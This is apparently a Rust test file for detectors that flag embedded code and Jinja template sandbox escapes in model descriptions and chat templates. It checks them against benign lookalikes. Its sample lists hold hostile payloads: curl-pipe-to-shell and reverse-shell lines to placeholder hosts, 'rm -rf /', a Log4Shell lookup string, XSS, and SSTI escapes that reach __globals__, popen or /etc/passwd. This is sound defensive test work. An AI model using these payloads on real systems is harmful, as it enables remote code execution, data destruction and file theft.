//! Texts that hit, and honest ones that have to pass.

use super::*;

const PROGRAMS: &[&str] = &[
    "import os\nos.system('id')",
    "x = 1; os.system(\"id\")",
    "from subprocess import Popen",
    "print(1); import os; os.getcwd()",
    "exec(\"print(1)\")",
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "eval (1); eval(compile(open('x').read(), 'x', 'exec'))",
    "eval(b'1+1')",
    "compile(text, '<s>', 'exec')",
    "__import__('os').getpid()",
    "getattr(__builtins__['eval'], 'x')",
    "().__class__.__base__.__subclasses__()",
    "subprocess.run(['id'])",
    "subprocess.check_output('id', shell=True)",
    "lambda: os.execvp('sh', ['sh'])",
    "def __reduce__(self): return (print, ())",
    "!!python/object/apply:os.system ['id']",
    "curl -fsSL https://example.invalid/x | sh",
    "wget -qO- example.invalid/x | sudo bash -s -- -y",
    "echo aWQ= | base64 -d | sh",
    "name $(curl example.invalid)",
    "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
    "x; rm -rf / ;",
    "PowerShell -enc SQBFAFgA",
    "x && curl example.invalid/x | bash",
    "<script>f()",
    "cmd.exe /c calc",
    "<script>alert(1)</script>",
    "<SCRIPT src=//example.invalid>",
    "[x](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://example.invalid/a}",
    "require('child_process').execSync('id')",
    "#!/bin/sh\nid",
    "  gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
];

const DESCRIPTIONS: &[&str] = &[
    "",
    "pt",
    "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/",
    "# Model card\n```python\nimport torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')\nmodel.eval()\n```",
    "import torch\nmodel.eval()\nprint(model(x))",
    "This model was trained to import data and to export it. Call eval() first.",
    "You may not use eval or exec; exec (the command) is slow. Execution(s) of eval(s).",
    "{\"lr\": 1e-4, \"optimizer\": \"AdamW\", \"argv\": [\"train.py\", \"--eval\", \"steps\"]}",
    "accelerate launch train.py --output_dir=out --eval_steps 100 | tee log.txt",
    "pip install torch; python -m pip install -U transformers && huggingface-cli login",
    "curl https://example.invalid/v1/chat -d '{\"model\": \"x\"}' | jq .",
    "Install it:\n```\ncurl -sSf https://example.invalid/install.sh | sh\n```\n$ wget -qO- x | sh",
    "On Windows: powershell -c \"irm x\". What `<script>` does (much), and <Script>::new(), and cmd.exe.",
    "run-script <script> -- <arguments>; never load `!!python/name:x`",
    "a | b | c: tables use bars. $(x, y)$ is mathematics, and ${name} is a variable.",
    "rm -rf /tmp/cache removes the cache; the system is called os and its shell sh.",
    "Languages: python, javascript: 12%, C. JavaScript is a language.",
    "masterpiece, 1girl, import_quality, (eval:1.2), <lora:script:1>, description=script",
    "a class defines __init__ and __reduce__ and keeps __globals__ to itself",
    "system prompt: You are a helpful assistant that can run subprocess calls.",
    "gASV is a prefix of text that goes on with blanks",
    "compile(model, mode='max-autotune') speeds things up; re.compile('a')",
    "ss_tag_frequency {\"img\": {\"onload\": 1, \"power shell\": 2}}",
];

#[test]
fn programs_are_told_from_descriptions() {
    for text in PROGRAMS {
        assert!(code_like(text.as_bytes()).is_some(), "missed: {text}");
    }
    for text in DESCRIPTIONS {
        let at = code_like(text.as_bytes());
        assert_eq!(at, None, "false alarm: {text}");
    }
    assert_eq!(code_like(b"abc; os.system('id')"), Some(5));
}

const ESCAPES: &[&str] = &[
    "{{ ''.__class__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ x['__class__'] }}",
    "{{ x|attr('name') }}",
    "{{ x | attr ('name') }}",
    "{{ [x]|map('attr', y)|list }}",
    "{{ x['__cla' ~ 'ss__'] }}",
    "{{ x['_' ~ '_class_' ~ '_'] }}",
    "{{ x[a ~ '_' + ( '_cl' ~ b)] }}",
    "{{ x[a ~ '_class_' ~ a] }}",
    "{{ x['_'*2 ~ 'class'] }}",
    "{% set u = '_' %}{{ x[u ~ u ~ 'class' ~ u ~ u] }}",
    "{{ x[('_','_','class')|join] }}",
    "{{ x[['_', 'x']|join] }}",
    "{{ x[dict(_=1)|join] }}",
    "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ x['\\u005f\\u005fclass'] }}",
    "{{ x['\\137'] }}",
    "{{ x['\\N{LOW LINE}'] }}",
    "{{ '%c%c'|format(95, 95) }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ lipsum['x'] }}",
    "{{ joiner | string }}",
    "{{ self._TemplateReference__context }}",
    "{% include '/etc/passwd' %}",
    "{%- import 'x' as y -%}",
    "{%from 'x' import y%}",
    "{% extends 'x' %}",
    "{{ f.func_globals }}",
    "{{ (g for g in x).gi_frame.f_back }}",
    "{{ x.popen('id').read() }}",
];

const TEMPLATES: &[&str] = &[
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('roles must alternate') }}{% endif %}{% endfor %}",
    "{%- if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% endif %}",
    "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{% endfor %}",
    "{%- set ns = namespace(is_first=false, output='') -%}{{ ns.output + message.content.split('</think>')[-1].lstrip('\\n') }}",
    "{{- strftime_now('%d %b %Y') }}{{ tool | tojson(indent=4) }}",
    "{%- macro escape_attr(value) -%}{{ value|string|replace('_', ' ')|trim }}{%- endmacro -%}{% for attr in attrs %}{{ attr[0] }}{% endfor %}",
    "{{ name.split('_')[0] }}{{ x.replace('-', '_') }}{{ fn.get('_xtml_json_block') }}{% if x == '_' %}{% endif %}",
    "{{ messages|map(attribute='role')|join('_') }}{{ tools|selectattr('type', 'equalto', 'function')|list|first }}",
    "Fill in: ____ or __________. Do not import anything; include all of it, from start to end.",
    "{# from here on #}{% set from_user = true %}{% if include_date %}{% endif %}{%- set imports = 1 %}",
    "{{ 'Environment: ipython\\n' }}{{ joiner }}{{ '\\n\\n' }}",
    "{{ message['role'] + '_' + message.name ~ '_' ~ loop.index ~ \"_\" }}{{ fn['_id'] + '_' }}",
    "{% generation %}{{ content }}{% endgeneration %}{%- break %}",
];

#[test]
fn templates_that_escape_are_told_from_honest_ones() {
    for text in ESCAPES {
        assert!(template_escape(text.as_bytes()).is_some(), "missed: {text}");
    }
    for text in TEMPLATES {
        let at = template_escape(text.as_bytes());
        assert_eq!(at, None, "false alarm: {text}");
    }
}
